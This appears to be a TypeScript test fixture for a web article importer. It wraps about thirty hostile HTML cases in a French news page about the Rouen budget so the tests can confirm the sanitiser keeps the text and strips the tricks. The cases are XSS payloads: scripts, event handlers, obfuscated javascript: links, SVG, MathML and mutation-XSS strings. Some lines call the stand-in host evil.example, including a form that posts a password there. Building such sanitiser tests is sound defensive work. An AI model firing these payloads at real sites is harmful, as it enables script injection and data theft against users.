/// One hostile HTML page: what it tries, and the page itself. `marker` is text that must still be
/// in the stored article, so a test knows the page was read rather than refused.
export interface HostileCase {
  readonly name: string;
  readonly html: string;
}

/// The text every hostile page carries around its tricks, so that a test can check the article
/// survived while the tricks did not.
export const hostileMarker = 'Le conseil municipal de Rouen a voté le budget';

// Wraps a trick in an ordinary French article page, so Readability has a body to find.
function page(name: string, head: string, trick: string): HostileCase {
  const paragraph = `<p>${hostileMarker} jeudi soir, après un long débat sur la taxe foncière et les écoles.</p>`;
  return {
    name,
    html: `<!doctype html><html lang="fr"><head><meta charset="utf-8"><title>${name}</title>${head}</head><body><article><h1>Budget de Rouen</h1>${paragraph}${trick}${paragraph.replace('jeudi soir', 'vendredi matin')}</article></body></html>`,
  };
}

/// Hostile HTML: scripts, event handlers, dangerous URL schemes (also entity-encoded and in mixed
/// case), SVG and MathML tricks, frames, forms, refresh and base tags, CSS `url()`, remote images,
/// srcset, object/embed, template and noscript content, and mutation-XSS strings. Plain data with
/// no Node API, so both unit tests (import side) and Playwright specs (display side) use it. After
/// import, none of it may survive as anything but text: only schema nodes and marks, and links
/// only to http(s) or mailto.
export const hostileCorpus: readonly HostileCase[] = [
  page(
    'inline script',
    '<script>window.__pwned = 1</script>',
    '<p>Avant<script>window.__pwned = 1; fetch("https://evil.example/s")</script>après.</p>',
  ),
  page(
    'external script',
    '<script src="https://evil.example/x.js"></script>',
    '<script src="//evil.example/y.js"></script>',
  ),
  page(
    'event handlers',
    '',
    '<p onclick="window.__pwned=1" onmouseover="window.__pwned=1">Cliquez <b onmouseenter="window.__pwned=1">ici</b>.</p><body onload="window.__pwned=1"><div onfocus="window.__pwned=1" tabindex="0" autofocus>Focus</div>',
  ),
  page('image onerror', '', '<p><img src="x" onerror="window.__pwned=1">Une image cassée.</p>'),
  page('javascript link', '', '<p><a href="javascript:window.__pwned=1">Lien piégé</a></p>'),
  page(
    'mixed-case javascript link',
    '',
    '<p><a href="JaVaScRiPt:window.__pwned=1">Lien piégé</a> et <a href=" javascript:window.__pwned=1">un autre</a>.</p>',
  ),
  page(
    'entity-encoded javascript link',
    '',
    '<p><a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__pwned=1">Lien encodé</a> <a href="jav&#x09;ascript:window.__pwned=1">tabulé</a> <a href="&#x6A;avascript&colon;window.__pwned=1">hex</a>.</p>',
  ),
  page(
    'data and vbscript links',
    '',
    '<p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Données</a> <a href="vbscript:msgbox(1)">VB</a> <a href="DATA:text/html,<script>alert(1)</script>">DATA</a>.</p>',
  ),
  page(
    'svg script and handlers',
    '',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=1"><script>window.__pwned=1</script><a xlink:href="javascript:window.__pwned=1"><text>SVG</text></a><foreignObject><p onclick="window.__pwned=1">Dans SVG</p></foreignObject><animate attributeName="href" to="javascript:window.__pwned=1"/></svg><p>Après le SVG.</p>',
  ),
  page(
    'mathml tricks',
    '',
    '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=1"></style></mglyph></table></mtext><maction actiontype="statusline" xlink:href="javascript:window.__pwned=1">M</maction></math><p>Après MathML.</p>',
  ),
  page(
    'iframes',
    '',
    '<iframe src="https://evil.example/frame"></iframe><iframe srcdoc="<script>parent.__pwned=1</script>"></iframe><frameset><frame src="https://evil.example/f"></frameset>',
  ),
  page(
    'forms',
    '',
    '<form action="https://evil.example/steal" method="post"><input name="password" value="secret"><button formaction="javascript:window.__pwned=1">Envoyer</button><textarea>texte de formulaire</textarea><select><option>choix</option></select></form>',
  ),
  page(
    'meta refresh',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=1">',
  ),
  page(
    'base href',
    '<base href="https://evil.example/">',
    '<p><a href="/relative">Lien relatif</a> reste du texte.</p>',
  ),
  page(
    'css url in style attribute',
    '',
    '<p style="background:url(https://evil.example/bg.png); behavior:url(x.htc)">Stylé</p><div style="width:expression(window.__pwned=1)">Expression</div>',
  ),
  page(
    'style element',
    '<style>@import url("https://evil.example/a.css"); body { background: url(https://evil.example/b.png) }</style>',
    '<style>p { background-image: url("https://evil.example/c.png") }</style>',
  ),
  page(
    'remote images',
    '',
    '<p><img src="https://evil.example/pixel.gif" alt="pixel"> Une image distante.</p><picture><source srcset="https://evil.example/a.webp"><img src="https://evil.example/b.png"></picture><figure><img src="https://evil.example/c.jpg"><figcaption>Légende</figcaption></figure>',
  ),
  page(
    'srcset',
    '',
    '<p><img srcset="https://evil.example/1x.png 1x, https://evil.example/2x.png 2x">Images responsives.</p><video poster="https://evil.example/p.png"><source src="https://evil.example/v.mp4"></video><audio src="https://evil.example/a.mp3"></audio>',
  ),
  page(
    'object and embed',
    '',
    '<object data="https://evil.example/x.swf" type="application/x-shockwave-flash"><param name="movie" value="x.swf"></object><embed src="https://evil.example/y.swf"><applet code="Evil.class"></applet>',
  ),
  page(
    'template content',
    '',
    '<template><img src="https://evil.example/t.png" onerror="window.__pwned=1"><script>window.__pwned=1</script></template><p>Après le gabarit.</p>',
  ),
  page(
    'noscript tricks',
    '',
    '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">Noscript</p></noscript><noscript><style></noscript><img src=x onerror="window.__pwned=1"></noscript>',
  ),
  page(
    'mutation xss',
    '',
    '<p><svg></p><style><a id="</style><img src=1 onerror=window.__pwned=1>"></svg></p><form><math><mtext></form><form><mglyph><style></math><img src onerror=window.__pwned=1></p><a title="&lt;/a&gt;&lt;img src=x onerror=window.__pwned=1&gt;">mxss</a>',
  ),
  page(
    'link and preload tags',
    '<link rel="stylesheet" href="https://evil.example/s.css"><link rel="prefetch" href="https://evil.example/p"><link rel="import" href="https://evil.example/i.html">',
    '<link rel="stylesheet" href="https://evil.example/body.css">',
  ),
  page(
    'dangerous attributes on kept tags',
    '',
    '<p id="x" class="y" style="color:red" data-x="1" aria-label="z" title="t" contenteditable="true" draggable="true">Attributs</p><a href="https://example.org/ok" target="_blank" ping="https://evil.example/ping" rel="opener" onclick="window.__pwned=1">Lien sûr</a>',
  ),
  page(
    'unicode and protocol-relative links',
    '',
    '<p><a href="//evil.example/proto">Relatif au protocole</a> <a href="&#x2028;javascript:window.__pwned=1">séparateur</a> <a href="java&#0;script:window.__pwned=1">nul</a> <a href="mailto:redaction@example.org">Écrire</a>.</p>',
  ),
  page(
    'xml and processing instructions',
    '',
    '<?xml-stylesheet href="https://evil.example/x.xsl"?><![CDATA[<script>window.__pwned=1</script>]]><!--<script>window.__pwned=1</script>--><p>Après les commentaires.</p>',
  ),
  page(
    'dialogs and details',
    '',
    '<details open ontoggle="window.__pwned=1"><summary>Résumé</summary>Détails</details><dialog open onclose="window.__pwned=1">Dialogue</dialog><marquee onstart="window.__pwned=1">Défilant</marquee>',
  ),
  page(
    'custom elements and shadow dom',
    '',
    '<x-evil onclick="window.__pwned=1">Élément perso</x-evil><div><template shadowrootmode="open"><img src=x onerror="window.__pwned=1"></template>Ombre</div>',
  ),
];
